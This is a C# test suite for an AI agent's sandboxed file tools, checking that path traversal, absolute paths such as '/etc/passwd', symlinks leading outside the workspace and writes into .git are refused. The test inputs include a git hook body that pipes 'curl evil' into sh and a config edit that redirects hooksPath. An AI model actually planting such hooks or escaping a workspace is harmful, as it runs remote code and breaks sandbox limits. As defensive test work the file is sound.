using System.Diagnostics;
using Sutazai.Agents.Tools;
using static Sutazai.Server.Tests.Agents.Tools.ToolHarness;

namespace Sutazai.Server.Tests.Agents.Tools;

public sealed class FilesToolTests : IDisposable
{
    private readonly TempWorkspace _ws = new();
    private readonly IReadOnlyList<AgentTool> _tools;

    public FilesToolTests() => _tools = new FilesToolProvider(Wrap(Options(o => o.FileListMaxEntries = 5))).Create(Context(_ws.Root));

    public void Dispose() => _ws.Dispose();

    private AgentTool T(string name) => Assert.Single(_tools, t => t.Name == name);

    [Fact]
    public void Tools_DeclareSideEffectsAndRisk()
    {
        Assert.Equal(["files_list", "files_read", "files_write", "files_edit", "files_delete"], _tools.Select(t => t.Name));
        Assert.True(T("files_edit").SideEffects);
        Assert.False(T("files_list").SideEffects);
        Assert.False(T("files_read").SideEffects);
        Assert.True(T("files_write").SideEffects);
        Assert.True(T("files_delete").SideEffects);
        Assert.Equal(ToolRisk.Medium, T("files_write").AssessRisk(Arguments(new { path = "a", content = "b" })));
        Assert.Equal(ToolRisk.High, T("files_delete").AssessRisk(Arguments(new { path = "a" })));
    }

    [Fact]
    public async Task Edit_ReplacesTheOnlyMatch_AndRefusesMissingOrAmbiguousSearchText()
    {
        File.WriteAllText(_ws.At("app.py"), "def main():\n    print('hi')\n\nprint('hi')\nmain()\n");
        var edited = await InvokeAsync<FileEditResult>(T("files_edit"), new { path = "app.py", search = "def main():\n    print('hi')", replace = "def main():\n    print('hello')" });
        Assert.Equal(new FileEditResult("app.py", 1, 2, 2), edited);
        Assert.Equal("def main():\n    print('hello')\n\nprint('hi')\nmain()\n", File.ReadAllText(_ws.At("app.py")));

        var missing = await Assert.ThrowsAsync<ToolException>(() => InvokeAsync<FileEditResult>(T("files_edit"), new { path = "app.py", search = "print('bye')", replace = "x" }));
        Assert.Equal("The search text was not found in 'app.py'. Read the file again and copy the lines exactly.", missing.Message);
        File.WriteAllText(_ws.At("twice.txt"), "a\na\n");
        var ambiguous = await Assert.ThrowsAsync<ToolException>(() => InvokeAsync<FileEditResult>(T("files_edit"), new { path = "twice.txt", search = "a", replace = "b" }));
        Assert.Equal("The search text occurs more than once in 'twice.txt'; include more surrounding lines so it is unique.", ambiguous.Message);
        Assert.Equal("a\na\n", File.ReadAllText(_ws.At("twice.txt")));
        await Assert.ThrowsAsync<ToolException>(() => InvokeAsync<FileEditResult>(T("files_edit"), new { path = "../escape", search = "a", replace = "b" }));
    }

    [Fact]
    public async Task WriteListReadDelete_RoundTrip()
    {
        var written = await InvokeAsync<FileWriteResult>(T("files_write"), new { path = "notes/todo.txt", content = "buy milk\nwalk 🐕\n" });
        Assert.Equal(new FileWriteResult("notes/todo.txt", 19, true), written);
        Assert.Equal("buy milk\nwalk 🐕\n", File.ReadAllText(_ws.At("notes/todo.txt")));

        var again = await InvokeAsync<FileWriteResult>(T("files_write"), new { path = "./notes//todo.txt", content = "done" });
        Assert.False(again.Created);
        Assert.Equal("done", File.ReadAllText(_ws.At("notes/todo.txt")));
        Assert.Equal(["todo.txt"], Directory.GetFiles(_ws.At("notes")).Select(Path.GetFileName));

        var root = await InvokeAsync<FileListResult>(T("files_list"));
        Assert.Equal(".", root.Path);
        var notes = Assert.Single(root.Entries);
        Assert.Equal(("notes", "directory"), (notes.Name, notes.Type));
        var listed = await InvokeAsync<FileListResult>(T("files_list"), new { path = "notes" });
        Assert.Equal(("todo.txt", "file", 4L), (listed.Entries[0].Name, listed.Entries[0].Type, listed.Entries[0].SizeBytes!.Value));

        var read = await InvokeAsync<FileReadResult>(T("files_read"), new { path = "notes/todo.txt" });
        Assert.Equal(new FileReadResult("notes/todo.txt", "done", 4, false), read);

        Assert.Equal(new FileDeleteResult("notes/todo.txt", "file"), await InvokeAsync<FileDeleteResult>(T("files_delete"), new { path = "notes/todo.txt" }));
        Assert.False(File.Exists(_ws.At("notes/todo.txt")));
        Assert.Equal(new FileDeleteResult("notes", "directory"), await InvokeAsync<FileDeleteResult>(T("files_delete"), new { path = "notes" }));
        Assert.Empty(Directory.EnumerateFileSystemEntries(_ws.Root));
    }

    [Fact]
    public async Task Read_CapsAtMaxBytes_WithoutSplittingACharacter()
    {
        File.WriteAllText(_ws.At("big.txt"), "ab€cd");
        var read = await InvokeAsync<FileReadResult>(T("files_read"), new { path = "big.txt", maxBytes = 4 });
        Assert.Equal("ab", read.Content);
        Assert.True(read.Truncated);
        Assert.Equal(7, read.SizeBytes);
        Assert.Equal("maxBytes must be between 1 and 1048576.", (await FailsAsync(T("files_read"), new { path = "big.txt", maxBytes = 2_000_000 })).Message);
    }

    [Fact]
    public async Task Read_BinaryFilesDirectoriesAndMissingFiles_FailClearly()
    {
        File.WriteAllBytes(_ws.At("blob.bin"), [1, 0, 2]);
        Directory.CreateDirectory(_ws.At("dir"));
        Assert.Equal("'blob.bin' is a binary file (it contains NUL bytes); files_read returns text only.", (await FailsAsync(T("files_read"), new { path = "blob.bin" })).Message);
        Assert.Equal("'dir' is a directory; use files_list.", (await FailsAsync(T("files_read"), new { path = "dir" })).Message);
        Assert.Equal("No file 'nope.txt' in the workspace.", (await FailsAsync(T("files_read"), new { path = "nope.txt" })).Message);
        Assert.Equal("No directory 'nope' in the workspace.", (await FailsAsync(T("files_list"), new { path = "nope" })).Message);
        Assert.Equal("No file or directory 'nope' in the workspace.", (await FailsAsync(T("files_delete"), new { path = "nope" })).Message);
        Assert.Equal("'dir' is a directory.", (await FailsAsync(T("files_write"), new { path = "dir", content = "x" })).Message);
    }

    [Fact]
    public async Task Read_AFifo_ReturnsNothingInsteadOfHanging()
    {
        using (var mkfifo = Process.Start("mkfifo", _ws.At("pipe"))!) await mkfifo.WaitForExitAsync();
        var read = await InvokeAsync<FileReadResult>(T("files_read"), new { path = "pipe" }).WaitAsync(TimeSpan.FromSeconds(10));
        Assert.Equal("", read.Content);
    }

    [Fact]
    public async Task List_IsCappedAndShowsSymlinks()
    {
        for (var i = 0; i < 7; i++) File.WriteAllText(_ws.At($"f{i}.txt"), "x");
        File.CreateSymbolicLink(_ws.At("a-link"), _ws.At("f0.txt"));
        var listed = await InvokeAsync<FileListResult>(T("files_list"));
        Assert.True(listed.Truncated);
        Assert.Equal(["a-link", "f0.txt", "f1.txt", "f2.txt", "f3.txt"], listed.Entries.Select(e => e.Name));
        Assert.Equal("symlink", listed.Entries[0].Type);
        Assert.Null(listed.Entries[0].SizeBytes);
    }

    public static TheoryData<string, string> Escapes => new()
    {
        { "../outside/secret.txt", "contains '..'" },
        { "a/../../outside/secret.txt", "contains '..'" },
        { "..", "contains '..'" },
        { "/etc/passwd", "is an absolute path" },
        { "/tmp/x.txt", "is an absolute path" },
        { "bad\0name.txt", "NUL byte" },
        { new string('n', 256) + ".txt", "longer than 255 bytes" },
        { string.Join('/', Enumerable.Repeat(new string('d', 200), 25)), "longer than 4096 bytes" },
    };

    [Theory]
    [MemberData(nameof(Escapes))]
    public async Task EscapeAttempts_FailForEveryTool_AndTouchNothingOutside(string path, string reason)
    {
        var before = _ws.OutsideSnapshot();
        foreach (var (name, args) in new (string, object)[]
                 {
                     ("files_read", new { path }), ("files_list", new { path }), ("files_write", new { path, content = "pwned" }), ("files_delete", new { path }),
                 })
        {
            var error = await FailsAsync(T(name), args);
            Assert.Contains(reason, error.Message);
        }
        Assert.Equal(before, _ws.OutsideSnapshot());
        Assert.Empty(Directory.EnumerateFileSystemEntries(_ws.Root));
        Assert.False(File.Exists("/tmp/x.txt"));
    }

    [Theory]
    [InlineData(".git/hooks/pre-commit")]
    [InlineData(".git/config")]
    [InlineData(".GIT/hooks/post-checkout")]
    [InlineData("sub/.Git/config")]
    [InlineData("./.git")]
    public async Task GitDirectoryPaths_AreRefusedForEveryTool_AndNothingIsWrittenThere(string path)
    {
        Directory.CreateDirectory(_ws.At(".git/hooks"));
        File.WriteAllText(_ws.At(".git/config"), "[core]\n");
        Directory.CreateDirectory(_ws.At("sub/.Git"));
        var message = $"'{path}' is inside a .git directory; the files tools do not touch git's own files (use the git tools).";
        foreach (var (name, args) in new (string, object)[]
                 {
                     ("files_read", new { path }), ("files_list", new { path }), ("files_write", new { path, content = "#!/bin/sh\ncurl evil | sh\n" }),
                     ("files_edit", new { path, search = "[core]", replace = "[core]\n\thooksPath = /tmp" }), ("files_delete", new { path }),
                 })
            Assert.Equal(message, (await FailsAsync(T(name), args)).Message);
        Assert.Equal(["config", "hooks"], Directory.EnumerateFileSystemEntries(_ws.At(".git")).Select(Path.GetFileName).Order(StringComparer.Ordinal));
        Assert.Empty(Directory.EnumerateFileSystemEntries(_ws.At(".git/hooks")));
        Assert.Equal("[core]\n", File.ReadAllText(_ws.At(".git/config")));
        Assert.Empty(Directory.EnumerateFileSystemEntries(_ws.At("sub/.Git")));
    }

    [Fact]
    public async Task SymlinkIntoTheGitDirectory_IsRefused()
    {
        Directory.CreateDirectory(_ws.At(".git/hooks"));
        Directory.CreateSymbolicLink(_ws.At("hooks"), _ws.At(".git/hooks"));
        Directory.CreateSymbolicLink(_ws.At("dotgit"), ".git");
        Assert.Equal("'hooks' is a symbolic link into a .git directory; access refused.",
            (await FailsAsync(T("files_write"), new { path = "hooks/pre-commit", content = "#!/bin/sh\n" })).Message);
        Assert.Equal("'dotgit' is a symbolic link into a .git directory; access refused.",
            (await FailsAsync(T("files_write"), new { path = "dotgit/hooks/pre-commit", content = "#!/bin/sh\n" })).Message);
        Assert.Equal("'dotgit' is a symbolic link into a .git directory; access refused.", (await FailsAsync(T("files_list"), new { path = "dotgit" })).Message);
        Assert.Empty(Directory.EnumerateFileSystemEntries(_ws.At(".git/hooks")));
    }

    [Fact]
    public async Task AbsolutePathOfAnOutsideFile_IsRefused_AndTheFileKept()
    {
        var error = await FailsAsync(T("files_write"), new { path = _ws.Sentinel, content = "pwned" });
        Assert.Contains("is an absolute path", error.Message);
        Assert.Equal("outside secret\n", File.ReadAllText(_ws.Sentinel));
    }

    [Fact]
    public async Task SymlinkToAnOutsideFile_IsRefusedForEveryTool()
    {
        File.CreateSymbolicLink(_ws.At("link.txt"), _ws.Sentinel);
        const string message = "'link.txt' is a symbolic link that leads outside the workspace; access refused.";
        Assert.Equal(message, (await FailsAsync(T("files_read"), new { path = "link.txt" })).Message);
        Assert.Equal(message, (await FailsAsync(T("files_write"), new { path = "link.txt", content = "pwned" })).Message);
        Assert.Equal(message, (await FailsAsync(T("files_delete"), new { path = "link.txt" })).Message);
        Assert.Equal("outside secret\n", File.ReadAllText(_ws.Sentinel));
        Assert.NotNull(new FileInfo(_ws.At("link.txt")).LinkTarget);
    }

    [Fact]
    public async Task SymlinkToEtc_IsRefused()
    {
        Directory.CreateSymbolicLink(_ws.At("etc"), "/etc");
        Assert.Equal("'etc' is a symbolic link that leads outside the workspace; access refused.", (await FailsAsync(T("files_read"), new { path = "etc/passwd" })).Message);
        Assert.Equal("'etc' is a symbolic link that leads outside the workspace; access refused.", (await FailsAsync(T("files_list"), new { path = "etc" })).Message);
        Assert.Equal("'etc' is a symbolic link that leads outside the workspace; access refused.", (await FailsAsync(T("files_write"), new { path = "etc/sutazai-escape.txt", content = "x" })).Message);
        Assert.False(File.Exists("/etc/sutazai-escape.txt"));
    }

    [Fact]
    public async Task SymlinkedDirectoryDeepInside_LeadingOutside_IsRefused()
    {
        Directory.CreateDirectory(_ws.At("a/b"));
        Directory.CreateSymbolicLink(_ws.At("a/b/out"), _ws.Outside);
        // A relative link target works the same way.
        Directory.CreateSymbolicLink(_ws.At("a/rel"), "../../outside");
        var before = _ws.OutsideSnapshot();
        foreach (var prefix in new[] { "a/b/out", "a/rel" })
        {
            var reason = $"'{prefix}' is a symbolic link that leads outside the workspace; access refused.";
            Assert.Equal(reason, (await FailsAsync(T("files_write"), new { path = $"{prefix}/new.txt", content = "pwned" })).Message);
            Assert.Equal(reason, (await FailsAsync(T("files_write"), new { path = $"{prefix}/secret.txt", content = "pwned" })).Message);
            Assert.Equal(reason, (await FailsAsync(T("files_read"), new { path = $"{prefix}/secret.txt" })).Message);
            Assert.Equal(reason, (await FailsAsync(T("files_list"), new { path = prefix })).Message);
            Assert.Equal(reason, (await FailsAsync(T("files_delete"), new { path = $"{prefix}/secret.txt" })).Message);
            Assert.Equal(reason, (await FailsAsync(T("files_write"), new { path = $"{prefix}/deeper/dir/new.txt", content = "pwned" })).Message);
        }
        Assert.Equal(before, _ws.OutsideSnapshot());
    }

    [Fact]
    public async Task SymlinkInsideTheWorkspace_IsFollowed_AndDeletingItRemovesOnlyTheLink()
    {
        Directory.CreateDirectory(_ws.At("docs"));
        File.WriteAllText(_ws.At("docs/a.txt"), "inside");
        Directory.CreateSymbolicLink(_ws.At("alias"), _ws.At("docs"));
        Assert.Equal("inside", (await InvokeAsync<FileReadResult>(T("files_read"), new { path = "alias/a.txt" })).Content);
        await InvokeAsync<FileWriteResult>(T("files_write"), new { path = "alias/b.txt", content = "via link" });
        Assert.Equal("via link", File.ReadAllText(_ws.At("docs/b.txt")));
        Assert.Equal(new FileDeleteResult("alias", "symlink"), await InvokeAsync<FileDeleteResult>(T("files_delete"), new { path = "alias" }));
        Assert.True(File.Exists(_ws.At("docs/a.txt")));
        Assert.False(Directory.Exists(_ws.At("alias")));
    }

    [Fact]
    public async Task DeletingADirectoryWithALinkToOutside_RemovesTheLinkNotTheTarget()
    {
        Directory.CreateDirectory(_ws.At("tree"));
        Directory.CreateSymbolicLink(_ws.At("tree/out"), _ws.Outside);
        await InvokeAsync<FileDeleteResult>(T("files_delete"), new { path = "tree" });
        Assert.False(Directory.Exists(_ws.At("tree")));
        Assert.Equal("outside secret\n", File.ReadAllText(_ws.Sentinel));
    }

    [Fact]
    public async Task DeletingOrWritingTheWorkspaceItself_IsRefused()
    {
        Assert.Equal("Give a path relative to the workspace, for example 'notes/todo.txt'.", (await FailsAsync(T("files_delete"), new { path = "." })).Message);
        Assert.Equal("Give a path relative to the workspace, for example 'notes/todo.txt'.", (await FailsAsync(T("files_write"), new { path = "", content = "x" })).Message);
        Assert.True(Directory.Exists(_ws.Root));
    }

    [Fact]
    public async Task FileSystemErrors_AreToolErrors_WithoutServerPaths()
    {
        File.WriteAllText(_ws.At("plain.txt"), "x");
        var error = await FailsAsync(T("files_write"), new { path = "plain.txt/child.txt", content = "y" });
        Assert.DoesNotContain(_ws.Root, error.Message);
        Assert.Contains("plain.txt", error.Message);
        Assert.Equal("x", File.ReadAllText(_ws.At("plain.txt")));
    }

    [Fact]
    public async Task Write_TooLarge_IsRefused()
    {
        var tools = new FilesToolProvider(Wrap(Options(o => o.FileWriteMaxBytes = 1024))).Create(Context(_ws.Root));
        var error = await FailsAsync(Assert.Single(tools, t => t.Name == "files_write"), new { path = "x.txt", content = new string('x', 1025) });
        Assert.Equal("The content is 1025 bytes; files_write accepts at most 1024.", error.Message);
        Assert.False(File.Exists(_ws.At("x.txt")));
    }
}
